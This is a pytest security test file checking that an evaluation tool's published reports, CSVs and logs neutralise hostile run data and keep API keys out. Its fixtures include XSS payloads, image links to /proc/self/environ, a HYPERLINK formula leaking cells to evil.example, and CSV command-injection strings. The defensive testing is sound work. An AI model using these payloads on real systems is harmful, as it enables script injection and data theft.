"""Run data is untrusted text wherever it is published (docs/security.md): the report's Markdown
and HTML, the annotated CSV of a declared task, and secrets in hydra multiruns and notebooks.

The hostile corpus: a server whose model name is an image of ``/proc/self/environ``, a script and
an ``<img onerror>``; replies and task files carrying the same and a spreadsheet formula."""

from __future__ import annotations

import base64
import html as html_module
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from conftest import ROOT
from fake_server import FakeServer
from markdown_it import MarkdownIt

from longicl import notebooks
from longicl.published import Markdown, code, code_block, escape, md, spreadsheet_cell
from longicl.report.html import converter

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
HOSTILE_MODEL = "![m](/proc/self/environ)<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT_LABEL = "<script>alert(2)</script>"
HOSTILE_TITLE = "![t](/proc/self/environ) <img src=y onerror=alert(3)> [go](javascript:alert(4))"
KEY = "sk-test-4f1c9a2b7d6e5f30aa"


class _Live(HTMLParser):
    """What a browser would run or fetch: script tags, on* handlers, javascript: URLs, images."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self.javascript: list[str] = []
        self.images: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed"):
            self.scripts.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag} {name}")
            if name in ("href", "src") and re.sub(r"\s", "", value or "").lower().startswith("javascript:"):
                self.javascript.append(value or "")
        if tag == "img":
            self.images.append(dict(attrs).get("src") or "")


def _live(html: str) -> _Live:
    parser = _Live()
    parser.feed(html)
    return parser


def _published_markdown(text: str) -> str:
    """The Markdown as a static site generator publishes it: CommonMark with raw HTML passed on."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


# ------------------------------------------------------------------------------------------------
# escaping
# ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [
        HOSTILE_MODEL,
        HOSTILE_TITLE,
        "[x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "a\n\n<script>alert(1)</script>\n# heading",
        "\\<script>alert(1)</script>",
        "&lt;script&gt;",
        "`code` ``` fence",
    ],
)
def test_escaped_text_shows_exactly_itself_and_nothing_live(text):
    html = _published_markdown(f"before {escape(text)} after")
    live = _live(html)
    assert not live.scripts and not live.handlers and not live.javascript and not live.images
    shown = html_module.unescape(re.sub(r"<[^>]+>", "", html)).strip()
    assert shown == "before " + re.sub(r"\r\n|\r|\n", " ", text) + " after"


def test_escape_keeps_plain_text_and_numbers_as_they_are():
    for text in ("openseek-5", "Qwen/Qwen3-4B", "12.5%", "1,234", "—", "exact match", "tasks 1-7"):
        assert escape(text) == text
    assert escape(-3) == "-3" and escape(0.5) == "0.5"
    assert escape(Markdown("`x`")) == "`x`"


def test_markdown_marks_authored_text_and_escapes_what_joins_it():
    joined = Markdown(", ").join([code("a`b"), "<b>"])
    assert joined == "``a`b``, &lt;b&gt;"
    assert isinstance(Markdown("**x** ") + "*y*", Markdown)
    assert Markdown("**x** ") + "*y*" == "**x** \\*y\\*"
    assert md("run {} ({:,} samples)", code("dir"), 1234) == "run `dir` (1,234 samples)"
    assert md("model {}", "<script>") == "model &lt;script&gt;"


def test_code_spans_and_blocks_cannot_be_closed_by_their_content():
    html = _published_markdown(f"x {code('``` <script>alert(1)</script> `')} y")
    assert "<code>" in html and not _live(html).scripts
    block = code_block("line\n```\n<script>alert(1)</script>\n````")
    html = _published_markdown(str(block) + "\n\nafter")
    assert not _live(html).scripts and html.count("<pre>") == 1 and "<p>after</p>" in html


BIDI_AND_ZERO_WIDTH = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u200e\u200f\ufeff"
)


@pytest.mark.parametrize("publish", [escape, code, code_block], ids=["escape", "code", "code_block"])
def test_bidi_and_zero_width_characters_are_shown_not_obeyed(publish):
    text = "admin\u202e txt.exe \u2066if ok\u2069 pass\u200b\ufeff"
    out = str(publish(text))
    assert not any(ch in out for ch in BIDI_AND_ZERO_WIDTH), repr(out)
    assert "U+202E" in out and "U+2066" in out and "U+2069" in out and "U+200B" in out and "U+FEFF" in out
    every = str(publish(BIDI_AND_ZERO_WIDTH))
    assert not any(ch in every for ch in BIDI_AND_ZERO_WIDTH)
    assert all(f"U+{ord(ch):04X}" in every for ch in BIDI_AND_ZERO_WIDTH)
    assert "\u200b" not in str(md("model {}", "a\u200bb")) and "aU+200Bb" in str(md("model {}", "a\u200bb"))


def test_report_templates_escape_every_value_by_default():
    from longicl.report.build import templates

    env = templates()
    text = env.from_string("a {{ x }} b {{ y | code }} c {{ z }}").render(
        x=HOSTILE_MODEL, y="run`dir", z=Markdown("**ok**")
    )
    assert "<script>" not in text and "![m](" not in text
    assert "``run`dir``" in text and "**ok**" in text
    table = env.from_string("{{ rows | table('t', 'caption ' ~ name) }}").render(
        rows=[{"model_answer": FORMULA, "gold": SCRIPT_LABEL, "note": "a|b\nc"}], name=HOSTILE_MODEL
    )
    html = _published_markdown(table)
    live = _live(html)
    assert not live.scripts and not live.handlers and not live.images
    assert html.count("<tr>") == 2  # the header and one row: "|" and "\n" did not split the cell


# ------------------------------------------------------------------------------------------------
# the HTML embeds the report's own figures, nothing else
# ------------------------------------------------------------------------------------------------
def _render(base: Path, markdown: str) -> str:
    return converter(base).render(markdown)


def test_only_png_files_inside_the_figures_folder_are_embedded(tmp_path):
    figures = tmp_path / "figures"
    figures.mkdir()
    (figures / "ok.png").write_bytes(PNG)
    html = _render(tmp_path, "![fine](figures/ok.png)")
    assert f'src="data:image/png;base64,{base64.b64encode(PNG).decode()}"' in html


@pytest.mark.parametrize(
    "source",
    [
        "/proc/self/environ",
        "/dev/zero",
        "/etc/passwd",
        "figures",  # a directory
        "figures/",
        "figures/../secret.png",
        "../outside.png",
        "figures/link.png",  # a symlink out of the folder
        "figures/notpng.png",  # a regular file without the PNG signature
        "figures/missing.png",
        "secret.png",  # inside the report folder, outside figures/
        "http://example.com/x.png",
        "javascript:alert(1)",
    ],
)
def test_nothing_else_is_read_because_of_an_image_in_the_text(tmp_path, source):
    figures = tmp_path / "figures"
    figures.mkdir()
    secret = b"\x89PNG\r\n\x1a\nSECRET-CONTENT"
    (tmp_path / "secret.png").write_bytes(secret)
    (tmp_path.parent / "outside.png").write_bytes(secret)
    (figures / "link.png").symlink_to(tmp_path / "secret.png")
    (figures / "notpng.png").write_bytes(b"SECRET-CONTENT")
    html = _render(tmp_path, f"![m]({source})")
    assert "data:" not in html and "SECRET" not in html
    assert base64.b64encode(b"SECRET-CONTENT").decode()[:12] not in html
    assert "<img" not in html and "m" in html  # the alt text stays, as text


# ------------------------------------------------------------------------------------------------
# a hostile server and task file, end to end: main.py, then python -m longicl.report
# ------------------------------------------------------------------------------------------------
def _hostile_task(tmp_path: Path) -> Path:
    source = pd.read_csv(ROOT / "examples" / "tweet-mood.csv", dtype=str, keep_default_na=False)
    source["mood"] = source["mood"].map({"down": FORMULA, "fine": SCRIPT_LABEL, "": ""})
    source.to_csv(tmp_path / "mood.csv", index=False)
    task = (ROOT / "examples" / "tweet-mood.yaml").read_text(encoding="utf-8")
    task = task.replace("data: tweet-mood.csv", "data: mood.csv")
    task = task.replace("labels: [down, fine]", f"labels: {json.dumps([FORMULA, SCRIPT_LABEL])}")
    task = task.replace("name: tweet-mood", f"name: tweet-mood\ntitle: {json.dumps(HOSTILE_TITLE)}")
    path = tmp_path / "mood.yaml"
    path.write_text(task, encoding="utf-8")
    return path


def _reply(body: dict) -> str:
    return f"<think>![r](/proc/self/environ) <script>alert(5)</script></think>\nAnswer: {FORMULA}"


def _python(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=600, check=False
    )


def _files_text(root: Path) -> str:
    return "\n".join(
        p.read_bytes().decode("utf-8", "replace") for p in sorted(root.rglob("*")) if p.is_file()
    )


def test_a_hostile_server_and_task_file_leave_the_published_report_inert(tmp_path):
    task = _hostile_task(tmp_path)
    canary = "canary-7f9e2d41c3"
    env = {**os.environ, "OPENAI_API_KEY": KEY, "LONGICL_CANARY": canary}
    env["PYTHONPATH"] = str(ROOT / "src") + os.pathsep + env.get("PYTHONPATH", "")
    run_dir, out = tmp_path / "run", tmp_path / "report"
    with FakeServer(_reply, model=HOSTILE_MODEL, api_key=KEY) as server:
        done = _python(
            "main.py",
            f"task={task}",
            "split=dev",
            "limit=3",
            "progress=false",
            "engine.model=auto",
            f"engine.base_url={server.url}",
            f"out_dir={run_dir}",
            env=env,
        )
        assert server.requests and server.rejected == 0  # the key reached the server
    assert done.returncode == 0, done.stderr
    assert all(r["model"] == HOSTILE_MODEL for r in server.requests)
    made = _python("-m", "longicl.report", str(run_dir), "-o", str(out), env=env)
    assert made.returncode == 0, made.stderr
    markdown = (out / "technical_report.md").read_text(encoding="utf-8")
    html = (out / "technical_report.html").read_text(encoding="utf-8")
    assert "alert(1)" in markdown and "alert(1)" in html  # the hostile name is shown, as text
    assert "alert(3)" in markdown and "alert(3)" in html  # the hostile title too
    for page in (html, _published_markdown(markdown)):
        live = _live(page)
        assert not live.scripts and not live.handlers and not live.javascript
        assert all(src.startswith("data:image/png;base64,") for src in _live(html).images)
    embedded = [base64.b64decode(src.split(",", 1)[1]) for src in _live(html).images]
    assert embedded and all(data.startswith(b"\x89PNG\r\n\x1a\n") for data in embedded)
    figures = {p.read_bytes() for p in (out / "figures").glob("*.png")}
    assert set(embedded) <= figures  # only the report's own figures
    for text in (markdown, html, made.stdout, made.stderr, done.stdout, done.stderr):
        assert canary not in text and KEY not in text
    assert KEY not in _files_text(run_dir) and KEY not in _files_text(out)
    annotated = pd.read_csv(run_dir / "tweet-mood.csv", dtype=str, keep_default_na=False)
    answered = annotated["prediction"][annotated["prediction"] != ""]
    assert len(answered) and (answered == "'" + FORMULA).all()  # no formula in a spreadsheet
    exact = [json.loads(line)["prediction"] for line in (run_dir / "tweet-mood.jsonl").open()]
    assert exact and set(exact) == {FORMULA}  # the JSONL keeps the exact text


# ------------------------------------------------------------------------------------------------
# CSV formula cells
# ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3", "-3"),
        ("+1.5e3", "+1.5e3"),
        ("a=b", "a=b"),
        ("Sad", "Sad"),
        ("", ""),
        (7, 7),
    ],
)
def test_spreadsheet_cells_never_start_a_formula(cell, written):
    assert spreadsheet_cell(cell) == written


def test_the_annotated_table_neutralises_formula_predictions_only(tmp_path):
    from longicl.rundir import RunDir

    frame = pd.DataFrame({"id": ["1", "2", "3"], "text": ["@user hi", "=x", "plain"]})
    path = RunDir(tmp_path).write_annotated_table("t", frame, [FORMULA, "-3", "fine"])
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(back["prediction"]) == ["'" + FORMULA, "-3", "fine"]
    assert list(back["text"]) == ["@user hi", "=x", "plain"]  # the input columns as read


# ------------------------------------------------------------------------------------------------
# secrets: hydra multirun and notebooks
# ------------------------------------------------------------------------------------------------
def test_a_hydra_multirun_writes_and_prints_no_key(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "OPENAI_API_KEY"}
    env["PYTHONPATH"] = str(ROOT / "src") + os.pathsep + env.get("PYTHONPATH", "")
    sweep = tmp_path / "multirun"
    with FakeServer(lambda body: "Answer: Sad", api_key=KEY) as server:
        done = _python(
            "main.py",
            "-m",
            "task=5",
            "split=dev",
            "limit=1",
            "progress=false",
            f"data_dir={ROOT / 'data' / 'openseek'}",
            f"engine.base_url={server.url}",
            f"engine.api_key={KEY}",
            f"out_dir={tmp_path / 'run'}",
            f"hydra.sweep.dir={sweep}",
            "hydra.output_subdir=.hydra",
            env=env,
        )
        assert server.requests and server.rejected == 0  # the key reached the server
    assert done.returncode == 0, done.stderr
    assert (sweep / "multirun.yaml").is_file() and list(sweep.rglob("overrides.yaml"))
    assert KEY not in done.stdout and KEY not in done.stderr
    assert KEY not in _files_text(tmp_path)


def test_a_hydra_multirun_writes_and_logs_no_url_password(tmp_path):
    password = "url-pw-" + os.urandom(6).hex()
    env = {k: v for k, v in os.environ.items() if k != "OPENAI_API_KEY"}
    env["PYTHONPATH"] = str(ROOT / "src") + os.pathsep + env.get("PYTHONPATH", "")
    sweep = tmp_path / "multirun"
    with FakeServer(lambda body: "Answer: Sad") as server:
        url = server.url.replace("http://", f"http://alice:{password}@")
        done = _python(
            "main.py",
            "-m",
            "task=5",
            "split=dev",
            "limit=1",
            "progress=false",
            f"data_dir={ROOT / 'data' / 'openseek'}",
            f"engine.base_url={url}",
            f"out_dir={tmp_path / 'run'}",
            f"hydra.sweep.dir={sweep}",
            "hydra.output_subdir=.hydra",
            env=env,
        )
        assert server.requests  # the job resolved the URL it was given
    assert done.returncode == 0, done.stderr
    assert (sweep / "multirun.yaml").is_file() and list(sweep.rglob("*.log"))
    assert password not in done.stdout and password not in done.stderr
    assert password not in _files_text(tmp_path)


def test_notebook_parameters_keep_the_key_out_of_notebooks_index_and_console(tmp_path, monkeypatch, capsys):
    import papermill

    monkeypatch.setenv("OPENAI_API_KEY", "")  # undone after the test: the key set here goes too
    monkeypatch.delenv("OPENAI_API_KEY")
    seen = {}

    def execute_notebook(source, output, parameters=None, **kwargs):
        seen["parameters"] = parameters
        seen["key"] = os.environ.get("OPENAI_API_KEY")
        Path(output).write_text(json.dumps({"metadata": {"papermill": {"parameters": parameters}}}))

    monkeypatch.setattr(papermill, "execute_notebook", execute_notebook)
    code = notebooks.main(
        [
            "02",
            "-o",
            str(tmp_path),
            "--kernel",
            "python3",
            "-p",
            f'overrides=["engine.api_key={KEY}", "limit=1", "+engine.api_key=\'{KEY}\'"]',
        ]
    )
    assert code == 0
    assert seen["key"] == KEY  # the kernel's environment carries it to the engine
    assert seen["parameters"]["overrides"] == ["limit=1"]
    captured = capsys.readouterr()
    assert KEY not in captured.out + captured.err
    assert KEY not in _files_text(tmp_path)
    assert json.loads((tmp_path / "index.json").read_text())["notebooks"]["02_context_strategies"]["ok"]
